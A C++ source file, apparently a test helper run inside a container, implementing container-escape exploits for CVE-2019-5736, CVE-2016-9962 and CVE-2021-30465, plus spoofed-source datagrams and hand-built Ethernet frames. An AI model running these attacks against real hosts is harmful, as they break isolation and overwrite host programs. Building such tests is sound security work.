// Attacks that need more than a shell, run as a container's program:
//
//   hostile catch             takes hold of every program of another file that shows up in the container, and
//   tries to write
//                             to it once it has ended (CVE-2019-5736); tells what came of it
//   hostile peek PATH         looks through every process of the runtime's that shows up in the container for
//   a way to the host's
//                             file PATH and for capabilities that make one (CVE-2016-9962); tells what it
//                             found
//   hostile swap A B          exchanges two names for ever, as fast as it can (CVE-2021-30465)
//   hostile listen ADDRESS PORT      tells the address that each datagram claims to be from
//   hostile spoof FROM TO PORT       sends a datagram under an address that need not be its own
//   hostile frame GATEWAY TO PORT    hands its gateway a datagram to an address that no route of its own
//   leads to
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr int kMostPids = 400;  // numbers in a young pid namespace
constexpr int kTries = 200000;
constexpr int kMostDescriptors = 64;

void tell(const char* what, int error) {
  std::printf("%s %s\n", what, error == 0 ? "ok" : ::strerrorname_np(error));
  std::fflush(stdout);
}

// The file stays busy as long as it runs.
void overwrite(int held) {
  const std::string path = "/proc/self/fd/" + std::to_string(held);
  for (int i = 0; i < kTries; ++i) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) continue;
    tell("overwritten:", fd < 0 ? errno : 0);
    ::close(fd);
    return;
  }
  tell("overwritten:", ETXTBSY);
}

[[noreturn]] void catch_programs() {
  struct stat own {};
  ::stat("/proc/self/exe", &own);
  std::puts("ready");
  std::fflush(stdout);
  for (;;) {
    for (int pid = 1; pid < kMostPids; ++pid) {
      const int held = ::open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_PATH | O_CLOEXEC);
      struct stat other {};
      if (held < 0) continue;
      if (::fstat(held, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev))
        overwrite(held);
      ::close(held);
    }
  }
}

bool is_runtime(const std::string& process) {
  char name[32] = {};
  const int fd = ::open((process + "/comm").c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const ssize_t n = ::read(fd, name, sizeof name - 1);
  ::close(fd);
  return n > 0 && std::string(name).rfind("compose-monitor", 0) == 0;
}

// "CapPrm:\t00000000a80425fb" (man 5 proc_pid_status)
bool may_administer(const std::string& process) {
  constexpr unsigned long long kSysAdmin = 1ULL << 21;
  FILE* const status = std::fopen((process + "/status").c_str(), "re");
  char line[256];
  unsigned long long mask = 0;
  while (status != nullptr && std::fgets(line, sizeof line, status) != nullptr)
    if (std::sscanf(line, "CapPrm: %llx", &mask) == 1) break;
  if (status != nullptr) std::fclose(status);
  return (mask & kSysAdmin) != 0;
}

void peek_by(const std::string& way, const std::string& path) {
  const int fd = ::open((way + path).c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  std::printf("reached the host by %s\n", way.c_str());
  std::fflush(stdout);
  ::close(fd);
}

void peek_into(int pid, const std::string& path) {
  const std::string process = "/proc/" + std::to_string(pid);
  if (!is_runtime(process) || ::kill(pid, SIGSTOP) != 0) return;
  if (is_runtime(process)) {
    const std::string up = "/../../../../../../../../../..";
    if (may_administer(process)) std::puts("found CAP_SYS_ADMIN");
    peek_by(process + "/root", path);
    peek_by(process + "/cwd" + up, path);
    for (int fd = 0; fd < kMostDescriptors; ++fd) peek_by(process + "/fd/" + std::to_string(fd) + up, path);
    std::puts("looked");
    std::fflush(stdout);
  }
  ::kill(pid, SIGCONT);
}

[[noreturn]] void peek(const std::string& path) {
  std::puts("ready");
  std::fflush(stdout);
  for (;;)
    for (int pid = 2; pid < kMostPids; ++pid) peek_into(pid, path);
}

[[noreturn]] void swap(const char* a, const char* b) {
  constexpr unsigned kExchange = 2;
  std::puts("ready");
  std::fflush(stdout);
  for (;;) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, kExchange);
}

sockaddr_in address_of(const char* text, int port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  ::inet_pton(AF_INET, text, &address.sin_addr);
  return address;
}

[[noreturn]] void listen_to(const char* address, int port) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  const sockaddr_in own = address_of(address, port);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&own), sizeof own) != 0) std::exit(1);
  std::puts("ready");
  std::fflush(stdout);
  for (;;) {
    char data[64];
    sockaddr_in from{};
    socklen_t size = sizeof from;
    if (::recvfrom(fd, data, sizeof data, 0, reinterpret_cast<sockaddr*>(&from), &size) < 0) continue;
    char text[INET_ADDRSTRLEN];
    std::printf("from %s\n", ::inet_ntop(AF_INET, &from.sin_addr, text, sizeof text));
    std::fflush(stdout);
  }
}

struct Datagram {
  iphdr ip;
  udphdr udp;
  char data[4];
};

Datagram datagram(in_addr from, in_addr to, int port) {
  Datagram packet{};
  packet.ip.version = 4;
  packet.ip.ihl = 5;
  packet.ip.ttl = 64;
  packet.ip.protocol = IPPROTO_UDP;
  packet.ip.tot_len = htons(sizeof packet);
  packet.ip.saddr = from.s_addr;
  packet.ip.daddr = to.s_addr;
  packet.udp.source = packet.udp.dest = htons(static_cast<uint16_t>(port));
  packet.udp.len = htons(sizeof packet.udp + sizeof packet.data);
  uint32_t sum = 0;
  uint16_t words[sizeof(iphdr) / 2];
  std::memcpy(words, &packet.ip, sizeof words);
  for (const uint16_t word : words) sum += word;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  packet.ip.check = static_cast<uint16_t>(~sum);
  return packet;
}

int told(ssize_t sent) {
  tell("sent:", sent < 0 ? errno : 0);
  return sent < 0 ? 1 : 0;
}

int spoof(const char* from, const char* to, int port) {
  const sockaddr_in target = address_of(to, 0);
  const Datagram packet = datagram(address_of(from, 0).sin_addr, target.sin_addr, port);
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  return told(
      ::sendto(fd, &packet, sizeof packet, 0, reinterpret_cast<const sockaddr*>(&target), sizeof target));
}

// The neighbour's MAC address, once the kernel has it (/proc/net/arp, man 5 proc).
bool find_mac(const char* address, unsigned char* mac) {
  for (int i = 0; i < 300; ++i) {
    FILE* const table = std::fopen("/proc/net/arp", "re");
    char line[256];
    bool found = false;
    while (table != nullptr && !found && std::fgets(line, sizeof line, table) != nullptr) {
      char name[64];
      found = std::sscanf(line, "%63s %*s 0x2 %hhx:%hhx:%hhx:%hhx:%hhx:%hhx", name, mac, mac + 1, mac + 2,
                          mac + 3, mac + 4, mac + 5) == 7 &&
              std::strcmp(name, address) == 0;
    }
    if (table != nullptr) std::fclose(table);
    if (found) return true;
    ::usleep(10000);
  }
  return false;
}

int send_frame(const char* gateway, const char* to, int port) {
  // Makes the kernel ask for the gateway's MAC address, and tells our own address.
  const int asker = ::socket(AF_INET, SOCK_DGRAM, 0);
  const sockaddr_in next = address_of(gateway, 9);
  sockaddr_in own{};
  socklen_t size = sizeof own;
  if (::connect(asker, reinterpret_cast<const sockaddr*>(&next), sizeof next) != 0 ||
      ::send(asker, "x", 1, 0) < 0 || ::getsockname(asker, reinterpret_cast<sockaddr*>(&own), &size) != 0)
    return told(-1);
  struct {
    ether_header head;
    Datagram packet;
  } __attribute__((packed)) frame{};
  ifreq interface {};
  std::strcpy(interface.ifr_name, "eth0");
  if (::ioctl(asker, SIOCGIFHWADDR, &interface) != 0 || !find_mac(gateway, frame.head.ether_dhost))
    return told(-1);
  std::memcpy(frame.head.ether_shost, interface.ifr_hwaddr.sa_data, ETH_ALEN);
  frame.head.ether_type = htons(ETHERTYPE_IP);
  frame.packet = datagram(own.sin_addr, address_of(to, 0).sin_addr, port);
  sockaddr_ll place{};
  place.sll_family = AF_PACKET;
  place.sll_ifindex = static_cast<int>(::if_nametoindex("eth0"));
  const int fd = ::socket(AF_PACKET, SOCK_RAW, 0);
  return told(::sendto(fd, &frame, sizeof frame, 0, reinterpret_cast<const sockaddr*>(&place), sizeof place));
}

}  // namespace

int main(int argc, char** argv) {
  const std::string what = argc > 1 ? argv[1] : "";
  if (what == "catch" && argc == 2) catch_programs();
  if (what == "peek" && argc == 3) peek(argv[2]);
  if (what == "swap" && argc == 4) swap(argv[2], argv[3]);
  if (what == "listen" && argc == 4) listen_to(argv[2], std::atoi(argv[3]));
  if (what == "spoof" && argc == 5) return spoof(argv[2], argv[3], std::atoi(argv[4]));
  if (what == "frame" && argc == 5) return send_frame(argv[2], argv[3], std::atoi(argv[4]));
  std::fprintf(stderr, "hostile: expected catch, peek, swap, listen, spoof or frame, and what they take\n");
  return 2;
}
